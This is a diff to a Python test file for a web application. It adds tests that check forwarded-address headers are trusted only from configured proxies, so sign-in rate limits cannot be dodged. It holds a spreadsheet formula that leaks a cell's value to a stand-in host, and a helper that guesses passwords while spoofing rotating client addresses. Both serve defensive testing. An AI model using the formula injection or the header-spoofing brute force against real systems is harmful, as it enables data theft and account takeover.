@@ -5,11 +5,14 @@ from __future__ import annotations
 import csv
 import io
 from datetime import UTC, datetime, timedelta
+from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
 
+import httpx
 import openpyxl
 import pytest
+import yaml
 from litestar.testing import TestClient
 
 from coordination.account import BadCredentials
@@ -22,11 +25,18 @@ from coordination.areas.tickets.commands import OpenTicket
 from coordination.permissions import SYSTEM, Grant, Role
 from tests.e2e.clients import sign_in
 from tests.helpers import PASSWORD, mobile, national_id
+from tests.processes import server
 from web.bootstrap import Services
 from web.platform.downloads import csv_response, workbook_response
 from web.platform.imports import start_import
 from web.platform.limits import limited_sign_in, phone_key
-from web.platform.ratelimit import SIGN_IN_ACCOUNT, SIGN_IN_ADDRESS, TooManyAttempts
+from web.platform.ratelimit import (
+    SIGN_IN_ACCOUNT,
+    SIGN_IN_ADDRESS,
+    SIGN_IN_PAIR,
+    TooManyAttempts,
+)
+from web.platform.settings import Settings, SettingsError, load_settings
 
 FORMULA = '=HYPERLINK("http://x?leak="&B2,"Open")'
 LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -178,3 +188,50 @@ def test_one_address_trying_many_accounts_is_stopped(services: Services) -> None
             limited_sign_in(where, mobile(), "guess-1234")
     with pytest.raises(TooManyAttempts):
         limited_sign_in(where, owner(services), PASSWORD)
+
+
+def test_trusted_proxies_are_read_as_addresses_and_networks() -> None:
+    assert load_settings({}).trusted_proxies == ()
+    settings = load_settings({"KATF_TRUSTED_PROXIES": " 10.0.0.7, 172.16.0.0/12 ,"})
+    assert settings.trusted_proxies == ("10.0.0.7", "172.16.0.0/12")
+    with pytest.raises(SettingsError, match="KATF_TRUSTED_PROXIES"):
+        load_settings({"KATF_TRUSTED_PROXIES": "proxy.local"})
+
+
+def right_password_after_guesses_from_rotating_addresses(base: str) -> int:
+    """Wrong passwords, each claiming another address, then the right one from yet another."""
+    phone = mobile()
+    with httpx.Client(base_url=base) as registering:
+        token = registering.get("/api/v1/session").json()["csrf_token"]
+        body = {"full_name": "Owner", "phone": phone, "national_id": national_id()}
+        body.update(governorate="01", password=PASSWORD)
+        made = registering.post("/api/v1/volunteers", json=body, headers={"X-CSRF-Token": token})
+        assert made.status_code == 201, made.text
+    with httpx.Client(base_url=base) as client:
+        token = client.get("/api/v1/session").json()["csrf_token"]
+
+        def attempt(password: str, claimed: str) -> int:
+            headers = {"X-CSRF-Token": token, "X-Forwarded-For": claimed}
+            body = {"phone": phone, "password": password}
+            return client.post("/api/v1/session", json=body, headers=headers).status_code
+
+        for n in range(SIGN_IN_PAIR.limit):
+            assert attempt("guess-1234", f"203.0.113.{n}") == 409
+        return attempt(PASSWORD, "198.51.100.1")
+
+
+def test_x_forwarded_for_is_believed_only_from_a_trusted_proxy(
+    sqlite_settings: Settings,
+) -> None:
+    with server(sqlite_settings, KATF_TRUSTED_PROXIES="") as base:
+        assert right_password_after_guesses_from_rotating_addresses(base) == 429
+    with server(sqlite_settings, KATF_TRUSTED_PROXIES="127.0.0.1") as base:
+        assert right_password_after_guesses_from_rotating_addresses(base) == 200
+
+
+def test_the_compose_deployment_says_whose_forwarded_header_it_believes() -> None:
+    compose = yaml.safe_load((Path(__file__).parents[2] / "compose.yaml").read_text())
+    environment = compose["x-katf"]["environment"]
+    assert "KATF_TRUSTED_PROXIES" in environment
+    proxies = load_settings({"KATF_TRUSTED_PROXIES": environment["KATF_TRUSTED_PROXIES"]})
+    assert proxies.trusted_proxies == ()  # none until the proxy's address is written there
